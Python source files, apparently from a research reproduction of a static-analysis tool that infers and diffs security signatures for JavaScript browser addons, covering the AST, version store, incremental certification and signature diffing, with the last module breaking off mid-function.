"""Abstract syntax tree for the supported JavaScript subset.

The node vocabulary mirrors the ESTree shape (SpiderMonkey Parser API) for
the ES5 constructs that browser addons use, so anyone familiar with Esprima/
Rhino output can read these trees directly.

Every node knows its children (:meth:`Node.children`), which powers generic
traversals, the AST node count used as the size metric in Table 1 (the
paper uses Rhino's node count; ours is the direct analogue), and structural
equality for tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field, fields
from typing import Iterator

from repro.js.errors import SourcePosition


@dataclass
class Node:
    """Base class for all AST nodes."""

    position: SourcePosition = field(
        default=SourcePosition(0, 0), repr=False, compare=False, kw_only=True
    )

    @property
    def kind(self) -> str:
        """The node's type name, e.g. ``"CallExpression"``."""
        return type(self).__name__

    def children(self) -> Iterator["Node"]:
        """Yield all direct child nodes, in source order."""
        for f in fields(self):
            if f.name == "position":
                continue
            value = getattr(self, f.name)
            if isinstance(value, Node):
                yield value
            elif isinstance(value, (list, tuple)):
                for item in value:
                    if isinstance(item, Node):
                        yield item

    def walk(self) -> Iterator["Node"]:
        """Yield this node and all descendants, pre-order."""
        yield self
        for child in self.children():
            yield from child.walk()


def node_count(node: Node) -> int:
    """Number of AST nodes in the subtree rooted at ``node``.

    This is the "Size" metric of Table 1 (the paper counts Rhino AST nodes;
    we count our own, which plays the same role).
    """
    return sum(1 for _ in node.walk())


# ----------------------------------------------------------------------
# Expressions


@dataclass
class Expression(Node):
    """Base class for expression nodes."""


@dataclass
class NumberLiteral(Expression):
    value: float


@dataclass
class StringLiteral(Expression):
    value: str


@dataclass
class BooleanLiteral(Expression):
    value: bool


@dataclass
class NullLiteral(Expression):
    pass


@dataclass
class UndefinedLiteral(Expression):
    """The ``undefined`` identifier, treated as a literal for analysis."""


@dataclass
class RegexLiteral(Expression):
    pattern: str


@dataclass
class Identifier(Expression):
    name: str


@dataclass
class ThisExpression(Expression):
    pass


@dataclass
class ArrayLiteral(Expression):
    elements: list[Expression]


@dataclass
class Property(Node):
    """A ``key: value`` entry in an object literal. Keys are always strings
    after parsing (identifier keys, string keys, and numeric keys are all
    normalized to their string form)."""

    key: str
    value: Expression


@dataclass
class ObjectLiteral(Expression):
    properties: list[Property]


@dataclass
class FunctionExpression(Expression):
    name: str | None
    params: list[str]
    body: "BlockStatement"


@dataclass
class MemberExpression(Expression):
    """Property access: ``obj.prop`` (computed=False, property is an
    Identifier-derived StringLiteral) or ``obj[expr]`` (computed=True)."""

    object: Expression
    property: Expression
    computed: bool


@dataclass
class CallExpression(Expression):
    callee: Expression
    arguments: list[Expression]


@dataclass
class NewExpression(Expression):
    callee: Expression
    arguments: list[Expression]


@dataclass
class UnaryExpression(Expression):
    operator: str  # one of: - + ! ~ typeof void delete
    argument: Expression


@dataclass
class UpdateExpression(Expression):
    operator: str  # ++ or --
    argument: Expression
    prefix: bool


@dataclass
class BinaryExpression(Expression):
    operator: str  # arithmetic, comparison, bitwise, in, instanceof
    left: Expression
    right: Expression


@dataclass
class LogicalExpression(Expression):
    operator: str  # && or ||
    left: Expression
    right: Expression


@dataclass
class ConditionalExpression(Expression):
    test: Expression
    consequent: Expression
    alternate: Expression


@dataclass
class AssignmentExpression(Expression):
    operator: str  # = += -= *= /= %= &= |= ^= <<= >>= >>>=
    target: Expression  # Identifier or MemberExpression
    value: Expression


@dataclass
class SequenceExpression(Expression):
    expressions: list[Expression]


# ----------------------------------------------------------------------
# Statements


@dataclass
class Statement(Node):
    """Base class for statement nodes."""


@dataclass
class Program(Node):
    body: list[Statement]


@dataclass
class ExpressionStatement(Statement):
    expression: Expression


@dataclass
class VariableDeclarator(Node):
    name: str
    init: Expression | None


@dataclass
class VariableDeclaration(Statement):
    declarations: list[VariableDeclarator]


@dataclass
class FunctionDeclaration(Statement):
    name: str
    params: list[str]
    body: "BlockStatement"


@dataclass
class BlockStatement(Statement):
    body: list[Statement]


@dataclass
class EmptyStatement(Statement):
    pass


@dataclass
class DebuggerStatement(Statement):
    pass


@dataclass
class IfStatement(Statement):
    test: Expression
    consequent: Statement
    alternate: Statement | None


@dataclass
class WhileStatement(Statement):
    test: Expression
    body: Statement


@dataclass
class DoWhileStatement(Statement):
    body: Statement
    test: Expression


@dataclass
class ForStatement(Statement):
    init: "VariableDeclaration | Expression | None"
    test: Expression | None
    update: Expression | None
    body: Statement


@dataclass
class ForInStatement(Statement):
    """``for (var x in obj)`` / ``for (x in obj)``. ``declares`` records
    whether the loop variable was declared with ``var`` at the loop head."""

    variable: str
    declares: bool
    object: Expression
    body: Statement


@dataclass
class ReturnStatement(Statement):
    argument: Expression | None


@dataclass
class BreakStatement(Statement):
    label: str | None


@dataclass
class ContinueStatement(Statement):
    label: str | None


@dataclass
class ThrowStatement(Statement):
    argument: Expression


@dataclass
class CatchClause(Node):
    param: str
    body: BlockStatement


@dataclass
class TryStatement(Statement):
    block: BlockStatement
    handler: CatchClause | None
    finalizer: BlockStatement | None


@dataclass
class SwitchCase(Node):
    test: Expression | None  # None for the default clause
    body: list[Statement]


@dataclass
class SwitchStatement(Statement):
    discriminant: Expression
    cases: list[SwitchCase]


@dataclass
class LabeledStatement(Statement):
    label: str
    body: Statement
