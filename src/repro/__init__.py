"""repro: security signature inference for JavaScript-based browser addons.

A from-scratch reproduction of Kashyap & Hardekopf, \"Security Signature
Inference for JavaScript-based Browser Addons\" (CGO 2014): a JavaScript
frontend, a flow- and context-sensitive abstract interpreter (the JSAI
role), annotated program dependence graphs, and the security-signature
inference built on top of them.

The convenient entry points live in :mod:`repro.api`.
"""

__version__ = "1.0.0"
