"""The versioned-corpus diff report (``DIFF_report.json``).

``examples/addons/versions/`` holds curated *update pairs*: one
directory per addon, containing its versions as ``v1.js``, ``v2.js``,
... Each consecutive pair exercises one differential-vetting path —
fast-lane certification, widening, narrowing, a brand-new flow, a
removed flow — and this module turns the whole corpus into a single
deterministic report: per pair, the certificate decision, the diff
verdict, and the classified entry changes.

The CI ``diff`` job regenerates the report and uploads it as an
artifact; the golden-file test (``tests/diffvet/test_golden_diffs.py``)
pins the classifications, so a lattice-order regression shows up as a
diff in review, not as a silent routing change in a vetting queue.

Run: ``python -m repro.diffvet.report [--versions DIR] [--output FILE]``.
"""

from __future__ import annotations

import argparse
from dataclasses import dataclass
from pathlib import Path

SCHEMA = "addon-sig/diff-report/v1"

#: Where the versioned examples corpus lives, relative to the repo root.
VERSIONS_DIR = "examples/addons/versions"


@dataclass(frozen=True)
class VersionPair:
    """One curated update: an addon name and two consecutive versions."""

    name: str
    old_path: Path
    new_path: Path

    def old_source(self) -> str:
        return self.old_path.read_text(encoding="utf-8")

    def new_source(self) -> str:
        return self.new_path.read_text(encoding="utf-8")


def discover_pairs(versions_dir: str | Path = VERSIONS_DIR) -> list[VersionPair]:
    """Every consecutive version pair under ``versions_dir``, sorted by
    addon name then version. An addon directory with fewer than two
    ``*.js`` files contributes nothing."""
    root = Path(versions_dir)
    pairs: list[VersionPair] = []
    if not root.is_dir():
        return pairs
    for addon_dir in sorted(path for path in root.iterdir() if path.is_dir()):
        versions = sorted(addon_dir.glob("*.js"))
        for old_path, new_path in zip(versions, versions[1:]):
            name = addon_dir.name
            if len(versions) > 2:
                name = f"{addon_dir.name}:{old_path.stem}->{new_path.stem}"
            pairs.append(
                VersionPair(name=name, old_path=old_path, new_path=new_path)
            )
    return pairs


def diff_report(
    versions_dir: str | Path = VERSIONS_DIR, recover: bool = True
) -> dict:
    """The full differential-vetting report over the versioned corpus.

    Deterministic by construction — no wall times, no machine state —
    so it doubles as a golden artifact: two runs on any machine produce
    byte-identical JSON.
    """
    from repro.api import diff_vet

    pairs = discover_pairs(versions_dir)
    entries = []
    for pair in pairs:
        report = diff_vet(
            pair.old_source(), pair.new_source(), recover=recover
        )
        entries.append({
            "name": pair.name,
            "old": pair.old_path.name,
            "new": pair.new_path.name,
            "certificate": report.certificate.to_json(),
            "fast_lane": report.fast_lane,
            "verdict": report.verdict,
            "old_signature": report.old_signature.render(),
            "new_signature": report.new_signature.render(),
            "diff": report.diff.to_json(),
            "witnesses": [witness.render() for witness in report.witnesses],
        })
    verdicts: dict[str, int] = {}
    for entry in entries:
        verdicts[entry["verdict"]] = verdicts.get(entry["verdict"], 0) + 1
    return {
        "schema": SCHEMA,
        "corpus": str(versions_dir),
        "pairs": entries,
        "summary": {
            "total": len(entries),
            "fast_lane": sum(1 for entry in entries if entry["fast_lane"]),
            "verdicts": dict(sorted(verdicts.items())),
        },
    }


def render_report(report: dict) -> str:
    lines = [f"differential vetting report ({report['corpus']})", ""]
    for entry in report["pairs"]:
        lane = "fast-lane" if entry["fast_lane"] else "re-analyzed"
        lines.append(
            f"  {entry['name']:<24} {entry['old']} -> {entry['new']}:"
            f" {entry['verdict']} [{lane}]"
        )
        for change in entry["diff"]["changes"]:
            if change["kind"] == "unchanged":
                continue
            side = change["new"] if change["new"] is not None else change["old"]
            lines.append(f"      {change['kind']}: {side}")
    summary = report["summary"]
    lines.append("")
    lines.append(
        f"  {summary['total']} pairs, {summary['fast_lane']} fast-lane,"
        " verdicts: " + ", ".join(
            f"{verdict}={count}"
            for verdict, count in summary["verdicts"].items()
        )
    )
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--versions", default=VERSIONS_DIR)
    parser.add_argument("--output", default="DIFF_report.json")
    arguments = parser.parse_args()
    report = diff_report(arguments.versions)
    from repro.store import atomic_write_json

    atomic_write_json(Path(arguments.output), report, fsync=False)
    print(render_report(report))
    print(f"\nwritten to {arguments.output}")


if __name__ == "__main__":
    main()
