"""Differential vetting: incremental re-analysis and signature diffing
for addon *updates*.

The paper's workflow checks a signature at first submission and
re-checks it on every update; at marketplace scale, updates dominate.
This package makes "what changed since the approved version?" a
first-class, cheap query:

- :mod:`repro.diffvet.diff` — classify every signature-entry change
  (``unchanged`` / ``narrowed`` / ``widened`` / ``new-flow`` /
  ``removed-flow``) under the signature lattice order, and route the
  update (``approve`` / ``re-review``);
- :mod:`repro.diffvet.incremental` — the change-surface certificate:
  prove ``signature(new) == signature(old)`` syntactically and skip the
  interpreter entirely (refusing, never guessing, on anything dynamic,
  degraded, or entangled);
- :mod:`repro.diffvet.store` — per-addon version chains layered on the
  vetting cache, supplying baselines to the batch engine;
- :mod:`repro.diffvet.report` — the deterministic versioned-corpus diff
  report (``DIFF_report.json``) CI regenerates and the golden tests pin.

Entry points: :func:`repro.api.diff_vet` (one update), ``addon-sig diff
old.js new.js`` (CLI), and ``vet_corpus(..., baseline=...)`` /
``vet_many(..., store=...)`` (batch).
"""

from repro.diffvet.diff import (
    CHANGE_KINDS,
    EntryChange,
    SignatureDiff,
    diff_signatures,
)
from repro.diffvet.incremental import (
    ChangeCertificate,
    ChangeSurface,
    certify_unchanged,
    change_surface,
)
from repro.diffvet.report import (
    VersionPair,
    diff_report,
    discover_pairs,
    render_report,
)
from repro.diffvet.store import VersionRecord, VersionStore

__all__ = [
    "CHANGE_KINDS",
    "EntryChange",
    "SignatureDiff",
    "diff_signatures",
    "ChangeCertificate",
    "ChangeSurface",
    "certify_unchanged",
    "change_surface",
    "VersionPair",
    "diff_report",
    "discover_pairs",
    "render_report",
    "VersionRecord",
    "VersionStore",
]
