"""The version store: per-addon version chains for differential vetting.

The on-disk outcome cache (``repro.batch``) answers "have I vetted
exactly these bytes under exactly this policy?". Differential vetting
needs the *longitudinal* question: "what was the last **approved**
version of this addon, and what signature did it carry?". The
:class:`VersionStore` layers that on the same cache directory
(``<cache_dir>/versions/``): one JSON chain file per addon name, each
link recording the version's source (the fast lane diffs against it),
its canonical signature text (the fast lane serves it), and the vetting
outcome it was recorded with.

Only clean outcomes extend a chain: a failed run has no signature and a
degraded run's ⊤-widened signature would poison every later diff with
spurious widenings — the same reason the batch engine never caches
degraded outcomes. Re-recording the head version (same source bytes) is
a no-op, so replaying a corpus sweep does not grow chains.

Durability is the shared store layer's (:class:`repro.store.JsonStore`):
chain files are published atomically, a chain that fails to decode is
quarantined to ``<name>.corrupt`` rather than masquerading as an empty
history, and ``max_chains`` puts an LRU bound on the catalog so a
100k-addon store does not grow without limit (reads refresh recency).
:meth:`VersionStore.fsck` runs the recovery scan over the directory.
"""

from __future__ import annotations

import dataclasses
import hashlib
import os
import re
from dataclasses import dataclass
from pathlib import Path

from repro.store import FsckReport, JsonStore, fsck_store


def _source_sha(source: str) -> str:
    return hashlib.sha256(source.encode("utf-8")).hexdigest()


@dataclass(frozen=True)
class VersionRecord:
    """One link of an addon's version chain."""

    name: str
    #: 1-based position in the chain (the head has the highest).
    version: int
    source_sha: str
    #: The full source — the diff fast lane needs the approved bytes,
    #: not just their hash.
    source: str
    #: Canonical (sorted) rendering of the approved signature.
    signature_text: str
    #: The pass/fail/leak verdict the version was recorded with, if any.
    verdict: str | None = None
    #: The diff verdict of the *update that produced this version*
    #: (``approve-fast`` / ``approve`` / ``re-review``), if any.
    diff_verdict: str | None = None
    #: Engine version that produced the signature (diagnostic only).
    engine_version: int = 0

    def to_json(self) -> dict:
        return dataclasses.asdict(self)

    @classmethod
    def from_json(cls, data: dict) -> "VersionRecord":
        known = {f.name for f in dataclasses.fields(cls)}
        return cls(**{k: v for k, v in data.items() if k in known})


class VersionStore:
    """Per-addon version chains layered on the vetting cache directory."""

    def __init__(
        self,
        cache_dir: str | os.PathLike | None = None,
        *,
        max_chains: int | None = None,
    ) -> None:
        from repro.batch import default_cache_dir

        base = Path(cache_dir) if cache_dir is not None else default_cache_dir()
        self.directory = base / "versions"
        self._store = JsonStore(
            self.directory, shards=1, max_entries=max_chains
        )

    # -- keys ----------------------------------------------------------

    def _key(self, name: str) -> str:
        # Addon names are arbitrary; keep a readable slug but make the
        # hash the identity so distinct names can never collide (or
        # escape the directory).
        slug = re.sub(r"[^A-Za-z0-9._-]+", "_", name)[:48] or "addon"
        return f"{slug}-{_source_sha(name)[:12]}"

    def _path(self, name: str) -> Path:
        return self._store.path_of(self._key(name))

    # -- reads ---------------------------------------------------------

    def chain(self, name: str) -> list[VersionRecord]:
        """The full recorded history of ``name``, oldest first; empty
        when the addon has never been recorded (or its chain rotted on
        disk, in which case the file is quarantined)."""
        key = self._key(name)
        data, _quarantined = self._store.load(key)
        if data is None:
            return []
        try:
            records = [VersionRecord.from_json(item) for item in data["chain"]]
        except Exception:  # decodes but is not a chain: foreign schema
            self._store.quarantine(key)
            return []
        return records

    def baseline(self, name: str) -> VersionRecord | None:
        """The most recently recorded (head) version of ``name``."""
        chain = self.chain(name)
        return chain[-1] if chain else None

    def names(self) -> list[str]:
        """Every addon name with a recorded chain, sorted."""
        found: list[str] = []
        for key in self._store.keys():
            data = self._store.get(key)
            if data is not None and "name" in data:
                found.append(data["name"])
        return sorted(set(found))

    def fsck(self) -> FsckReport:
        """Run the recovery scan over the chain directory: sweep stale
        tmp files, quarantine undecodable chains, report."""
        return fsck_store(self.directory)

    # -- writes --------------------------------------------------------

    def record(
        self,
        name: str,
        source: str,
        signature_text: str,
        *,
        verdict: str | None = None,
        diff_verdict: str | None = None,
    ) -> VersionRecord:
        """Append a new approved version to ``name``'s chain.

        Idempotent on the head: recording the same source bytes that are
        already at the head returns the head unchanged, so cache replays
        and repeated sweeps do not manufacture history.
        """
        sha = _source_sha(source)
        chain = self.chain(name)
        if chain and chain[-1].source_sha == sha:
            return chain[-1]
        from repro.batch import ENGINE_VERSION

        record = VersionRecord(
            name=name,
            version=len(chain) + 1,
            source_sha=sha,
            source=source,
            signature_text=signature_text,
            verdict=verdict,
            diff_verdict=diff_verdict,
            engine_version=ENGINE_VERSION,
        )
        chain.append(record)
        self._write(name, chain)
        return record

    def _write(self, name: str, chain: list[VersionRecord]) -> None:
        self._store.put(
            self._key(name),
            {
                "schema": "addon-sig/version-chain/v1",
                "name": name,
                "chain": [record.to_json() for record in chain],
            },
        )
