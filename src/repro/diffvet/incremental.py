"""The incremental fast lane: certify ``signature(new) == signature(old)``
without re-running the interpreter.

At marketplace scale, *updates* dominate vetting traffic, and most
updates are boring: comment and formatting churn, version-string bumps,
UI tweaks nowhere near a source or a sink. For those, re-running the
whole abstract interpretation only to rediscover the approved signature
is wasted work. This module computes a **change-surface certificate**:
a syntactic proof that an update cannot have changed the inferred
signature, in the refusal-discipline style of the PR-3 relevance
prefilter (``repro.lint.surface``) — every condition that the argument
needs is checked, and any doubt refuses the fast lane (sound fallback
to full re-analysis), never the other way around.

The certificate holds when **all** of the following do:

1. *Clean inputs.* Both versions parse completely — recovery-mode skips
   mean the AST under-approximates the program, so no syntactic
   argument about it is sound (``degraded-input``), and a parse error
   means there is nothing to argue about (``parse-error``).
2. *No dynamic features, anywhere, in either version.* Dynamic code
   (``eval`` / ``Function`` / string timers) or a computed property
   access with a non-literal key gives the program an unbounded surface
   that could read or write the changed region without naming it
   (``dynamic-code`` / ``dynamic-properties``). Checked over the whole
   program, not just the change — the *unchanged* half is what might
   reach in.
3. *Straight-line change.* No changed statement contains a loop,
   ``throw``, ``try``, ``switch``, ``break``/``continue``, or label
   (``control-flow-change``), and no call or ``new`` expression
   (``call-in-change``): a constant-condition loop, a thrown exception,
   or a call bottoming out in unbounded recursion could make the *rest*
   of the program unreachable, shrinking the signature without touching
   any name. (``if`` is fine — its exit state is the join of both
   branches, so it never severs reachability.)
4. *Spec-disjoint change.* The changed statements' syntactic surface
   (``repro.lint.surface.nodes_surface`` — identifiers, static property
   names, declared names, object keys, on both the deleted old
   statements and the inserted new ones) shares no name with the spec
   surface (``spec-overlap``): no matcher of the spec can fire on a
   changed statement.
5. *Isolated change.* The change surface also shares no name with the
   surface of the *unchanged* statements (``shared-names``). In the
   analyzable subset, with dynamic features already excluded, data
   moves between statements only through named variables and named
   properties — so a name-disjoint change is an island: no value
   computed in it can reach an unchanged statement, and no value from
   outside can reach it.

Under 1–5, every statement that any spec matcher can fire on is
unchanged *and* computes over exactly the values it computed over in
the approved version; the inferred signature — entries and prefix
domains both — is therefore identical, and the approved signature can
be served as the update's signature. The claim is proven bit-for-bit
against full re-analysis over every versioned pair in the corpus in
``tests/diffvet/test_incremental_soundness.py``.

Statement-level change detection uses the canonical AST printer
(``repro.js.printer``): two statements are "the same" when their
canonical renderings are equal, which makes the certificate immune to
comment, whitespace, and formatting churn by construction.
"""

from __future__ import annotations

import difflib
from dataclasses import dataclass

from repro.js import ast as js_ast
from repro.js import node_count, parse, parse_with_recovery
from repro.js.printer import print_statement
from repro.lint.surface import nodes_surface, spec_surface
from repro.signatures.spec import SecuritySpec

#: Statement forms a changed statement may not contain (recursively):
#: each can sever the reachability of *unchanged* code, which would
#: shrink the signature without any name overlap.
_CONTROL_FLOW = (
    js_ast.WhileStatement,
    js_ast.DoWhileStatement,
    js_ast.ForStatement,
    js_ast.ForInStatement,
    js_ast.ThrowStatement,
    js_ast.TryStatement,
    js_ast.SwitchStatement,
    js_ast.BreakStatement,
    js_ast.ContinueStatement,
    js_ast.LabeledStatement,
)

#: Certificate / refusal reasons (the closed vocabulary; stable wire
#: strings used in outcomes, reports, and the golden files).
CERTIFIED_NO_CHANGE = "no-change"
CERTIFIED_ISOLATED = "isolated-change"
REFUSED_PARSE_ERROR = "parse-error"
REFUSED_DEGRADED = "degraded-input"
REFUSED_DYNAMIC_CODE = "dynamic-code"
REFUSED_DYNAMIC_PROPERTIES = "dynamic-properties"
REFUSED_CONTROL_FLOW = "control-flow-change"
REFUSED_CALL = "call-in-change"
REFUSED_SPEC_OVERLAP = "spec-overlap"
REFUSED_SHARED_NAMES = "shared-names"


@dataclass(frozen=True)
class ChangeCertificate:
    """The fast-lane decision for one ``(old, new)`` source pair."""

    #: True when the signature provably did not change.
    certified: bool
    #: Why: a ``CERTIFIED_*`` reason when certified, a ``REFUSED_*``
    #: reason otherwise.
    reason: str
    #: Top-level statements that changed (old side removed + new side
    #: inserted); 0 for comment/formatting-only updates.
    changed_statements: int = 0
    #: The offending names for ``spec-overlap`` / ``shared-names``
    #: refusals (sorted, possibly truncated upstream when rendered).
    overlap: frozenset[str] = frozenset()
    #: AST node count of the *new* version (free by-product of the
    #: certificate parse; lets the fast lane fill outcome metadata
    #: without re-parsing).
    new_ast_nodes: int = 0

    def render(self) -> str:
        if self.certified:
            return (
                f"certified ({self.reason}): signature provably unchanged "
                f"across {self.changed_statements} changed statement(s)"
            )
        detail = (
            f" ({', '.join(sorted(self.overlap))})" if self.overlap else ""
        )
        return f"refused ({self.reason}{detail}): full re-analysis required"

    def to_json(self) -> dict:
        return {
            "certified": self.certified,
            "reason": self.reason,
            "changed_statements": self.changed_statements,
            "overlap": sorted(self.overlap),
        }


@dataclass(frozen=True)
class ChangeSurface:
    """The statement-level difference between two program versions."""

    removed: tuple[js_ast.Statement, ...]
    inserted: tuple[js_ast.Statement, ...]
    unchanged_old: tuple[js_ast.Statement, ...]
    unchanged_new: tuple[js_ast.Statement, ...]

    @property
    def changed(self) -> tuple[js_ast.Statement, ...]:
        return self.removed + self.inserted

    @property
    def is_empty(self) -> bool:
        return not self.changed


def change_surface(
    old_program: js_ast.Program, new_program: js_ast.Program
) -> ChangeSurface:
    """Diff two programs at top-level-statement granularity.

    Statements are matched by canonical rendering
    (:func:`repro.js.printer.print_statement`), so formatting and
    comment changes produce an empty change surface, and a moved-but-
    identical statement matches rather than counting as a change.
    """
    old_text = [print_statement(stmt) for stmt in old_program.body]
    new_text = [print_statement(stmt) for stmt in new_program.body]
    matcher = difflib.SequenceMatcher(a=old_text, b=new_text, autojunk=False)
    removed: list[js_ast.Statement] = []
    inserted: list[js_ast.Statement] = []
    unchanged_old: list[js_ast.Statement] = []
    unchanged_new: list[js_ast.Statement] = []
    for op, old_lo, old_hi, new_lo, new_hi in matcher.get_opcodes():
        if op == "equal":
            unchanged_old.extend(old_program.body[old_lo:old_hi])
            unchanged_new.extend(new_program.body[new_lo:new_hi])
        else:
            removed.extend(old_program.body[old_lo:old_hi])
            inserted.extend(new_program.body[new_lo:new_hi])
    return ChangeSurface(
        removed=tuple(removed),
        inserted=tuple(inserted),
        unchanged_old=tuple(unchanged_old),
        unchanged_new=tuple(unchanged_new),
    )


def _parse_clean(
    source: str, recover: bool
) -> tuple[js_ast.Program | None, str | None]:
    """Parse one version for certification. Returns ``(program, None)``
    on a complete parse, ``(None, refusal-reason)`` otherwise."""
    try:
        if recover:
            program, skipped = parse_with_recovery(source)
            if skipped:
                return None, REFUSED_DEGRADED
            return program, None
        return parse(source), None
    except Exception:
        return None, REFUSED_PARSE_ERROR


def certify_unchanged(
    old_source: str,
    new_source: str,
    spec: SecuritySpec,
    *,
    recover: bool = False,
) -> ChangeCertificate:
    """Decide the incremental fast lane for one update.

    Never raises: every anomaly (unparseable version, recovery skip,
    dynamic feature, entangled change) is a *refusal*, and a refusal
    just means the caller runs the full pipeline — the same sound
    degradation discipline as the relevance prefilter.
    """
    old_program, refusal = _parse_clean(old_source, recover)
    if old_program is None:
        return ChangeCertificate(certified=False, reason=refusal or REFUSED_PARSE_ERROR)
    new_program, refusal = _parse_clean(new_source, recover)
    if new_program is None:
        return ChangeCertificate(certified=False, reason=refusal or REFUSED_PARSE_ERROR)
    new_ast_nodes = node_count(new_program)

    old_whole = nodes_surface([old_program])
    new_whole = nodes_surface([new_program])
    if old_whole.dynamic_code or new_whole.dynamic_code:
        return ChangeCertificate(
            certified=False, reason=REFUSED_DYNAMIC_CODE,
            new_ast_nodes=new_ast_nodes,
        )
    if old_whole.dynamic_properties or new_whole.dynamic_properties:
        return ChangeCertificate(
            certified=False, reason=REFUSED_DYNAMIC_PROPERTIES,
            new_ast_nodes=new_ast_nodes,
        )

    surface = change_surface(old_program, new_program)
    changed_count = len(surface.changed)
    if surface.is_empty:
        return ChangeCertificate(
            certified=True, reason=CERTIFIED_NO_CHANGE,
            changed_statements=0, new_ast_nodes=new_ast_nodes,
        )

    for stmt in surface.changed:
        for node in stmt.walk():
            if isinstance(node, _CONTROL_FLOW):
                return ChangeCertificate(
                    certified=False, reason=REFUSED_CONTROL_FLOW,
                    changed_statements=changed_count,
                    new_ast_nodes=new_ast_nodes,
                )
            if isinstance(node, (js_ast.CallExpression, js_ast.NewExpression)):
                # A call in the change could bottom out in unbounded
                # recursion — reachability severed with no loop syntax
                # and no name overlap. Straight-line means call-free.
                return ChangeCertificate(
                    certified=False, reason=REFUSED_CALL,
                    changed_statements=changed_count,
                    new_ast_nodes=new_ast_nodes,
                )

    change_names = nodes_surface(surface.changed).names
    spec_overlap = change_names & spec_surface(spec)
    if spec_overlap:
        return ChangeCertificate(
            certified=False, reason=REFUSED_SPEC_OVERLAP,
            changed_statements=changed_count, overlap=frozenset(spec_overlap),
            new_ast_nodes=new_ast_nodes,
        )
    remainder_names = nodes_surface(
        surface.unchanged_old + surface.unchanged_new
    ).names
    shared = change_names & remainder_names
    if shared:
        return ChangeCertificate(
            certified=False, reason=REFUSED_SHARED_NAMES,
            changed_statements=changed_count, overlap=frozenset(shared),
            new_ast_nodes=new_ast_nodes,
        )
    return ChangeCertificate(
        certified=True, reason=CERTIFIED_ISOLATED,
        changed_statements=changed_count, new_ast_nodes=new_ast_nodes,
    )
