"""Signature diffing: classify what an addon update changed.

The paper's vetting workflow (Section 4) checks a signature once at
first submission and then *re*-checks it on every update. At that point
the interesting question is never "what is the signature?" but "what
changed since the version I approved?". :func:`diff_signatures` answers
it by classifying every entry of the new signature against the approved
one under the signature lattice order (:func:`repro.signatures.compare
.entry_covers`), never under string equality:

- **unchanged** — the exact entry is already in the approved signature;
- **narrowed** — same source/sink (or API), but the new claim sits
  strictly *below* the approved one (weaker flow type, or a prefix
  domain with ``new ⊑ old`` — e.g. ``stats...`` tightened to
  ``stats.example.com``): the update claims less than what was already
  approved;
- **widened** — same source/sink, but the new claim is *not covered* by
  the approved one (stronger flow type, ``old ⊑ new`` in the prefix
  lattice, or an incomparable domain such as ``a.com`` → ``b.com``):
  the approval does not extend to it;
- **new-flow** — a source/sink (or API) pair the approved signature
  never mentioned;
- **removed-flow** — an approved source/sink pair the update no longer
  exhibits.

The verdict is the vetting-queue routing decision: ``approve`` when
nothing widened and nothing is new (the approved review still covers
every claim), ``re-review`` otherwise — with the widened/new entries
listed so the reviewer can ask for :func:`repro.signatures.explain
.explain_flow` witnesses.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.signatures.compare import classify_entry_change, entry_key
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowTypeLattice
from repro.signatures.signature import Entry, FlowEntry, Signature
from repro.signatures.spec import SecuritySpec

#: The closed set of change classes, in display order.
CHANGE_KINDS = ("unchanged", "narrowed", "widened", "new-flow", "removed-flow")

#: Change classes that invalidate a previous approval.
REVIEW_KINDS = frozenset({"widened", "new-flow"})


@dataclass(frozen=True)
class EntryChange:
    """One classified entry change between two signature versions."""

    kind: str
    old: Entry | None = None
    new: Entry | None = None

    @property
    def needs_review(self) -> bool:
        return self.kind in REVIEW_KINDS

    def render(self) -> str:
        if self.kind == "unchanged":
            assert self.new is not None
            return f"unchanged:    {self.new.render()}"
        if self.kind == "new-flow":
            assert self.new is not None
            return f"new-flow:     {self.new.render()}"
        if self.kind == "removed-flow":
            assert self.old is not None
            return f"removed-flow: {self.old.render()}"
        assert self.old is not None and self.new is not None
        return (
            f"{self.kind}:{' ' * (13 - len(self.kind) - 1)}"
            f"{self.old.render()}  =>  {self.new.render()}"
        )

    def to_json(self) -> dict:
        return {
            "kind": self.kind,
            "old": self.old.render() if self.old is not None else None,
            "new": self.new.render() if self.new is not None else None,
        }


@dataclass
class SignatureDiff:
    """The full classification of one version-to-version signature change."""

    changes: list[EntryChange] = field(default_factory=list)

    def of_kind(self, kind: str) -> list[EntryChange]:
        return [change for change in self.changes if change.kind == kind]

    @property
    def counts(self) -> dict[str, int]:
        counts = {kind: 0 for kind in CHANGE_KINDS}
        for change in self.changes:
            counts[change.kind] += 1
        return counts

    @property
    def review_entries(self) -> list[Entry]:
        """The new-version entries a reviewer must look at (widened or
        brand new), in deterministic order."""
        entries = [
            change.new
            for change in self.changes
            if change.needs_review and change.new is not None
        ]
        return sorted(entries, key=lambda entry: entry.render())

    @property
    def review_flows(self) -> list[FlowEntry]:
        return [e for e in self.review_entries if isinstance(e, FlowEntry)]

    @property
    def verdict(self) -> str:
        """``approve`` when the previous approval still covers every
        claim of the new signature; ``re-review`` otherwise."""
        return "re-review" if any(c.needs_review for c in self.changes) else "approve"

    def render(self) -> str:
        lines = [f"diff verdict: {self.verdict}"]
        for kind in CHANGE_KINDS:
            for change in sorted(
                self.of_kind(kind), key=lambda c: c.render()
            ):
                lines.append(f"  {change.render()}")
        return "\n".join(lines)

    def to_json(self) -> dict:
        return {
            "verdict": self.verdict,
            "counts": self.counts,
            "changes": [change.to_json() for change in self.changes],
        }


def diff_signatures(
    old: Signature,
    new: Signature,
    spec: SecuritySpec | None = None,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> SignatureDiff:
    """Classify every entry change from ``old`` (the approved version's
    signature) to ``new`` (the update's).

    ``spec`` is accepted for symmetry with the vetting entry points (a
    spec can, in a future revision, carry its own flow-type lattice);
    classification itself needs only ``lattice``. Prefix-domain network
    entries are compared under the prefix order ``⊑`` via
    :func:`repro.signatures.compare.entry_covers` — never under string
    equality — so a domain generalized from ``stats.example.com`` to
    ``stats...`` is a *widening* of the same entry, not a removal plus a
    new flow.
    """
    del spec  # reserved: specs do not (yet) carry their own lattice
    old_by_key: dict[tuple, set[Entry]] = {}
    for entry in old.entries:
        old_by_key.setdefault(entry_key(entry), set()).add(entry)
    new_keys: set[tuple] = set()

    changes: list[EntryChange] = []
    for entry in sorted(new.entries, key=lambda e: e.render()):
        key = entry_key(entry)
        new_keys.add(key)
        previous = old_by_key.get(key)
        if not previous:
            changes.append(EntryChange(kind="new-flow", new=entry))
